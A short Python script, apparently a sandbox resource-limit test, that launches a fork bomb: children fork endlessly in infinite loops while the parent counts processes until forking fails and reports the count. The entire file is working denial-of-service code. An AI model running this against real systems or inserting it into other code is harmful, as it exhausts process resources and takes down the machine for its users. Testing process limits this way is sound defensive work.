import os
import time

from kit import report, serve_then


def attack():
    time.sleep(1)
    made = 0
    try:
        while True:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.1)
            made += 1
    except OSError as err:
        report("py-fork-bomb", {"made": made, "error": str(err)})


serve_then(attack)
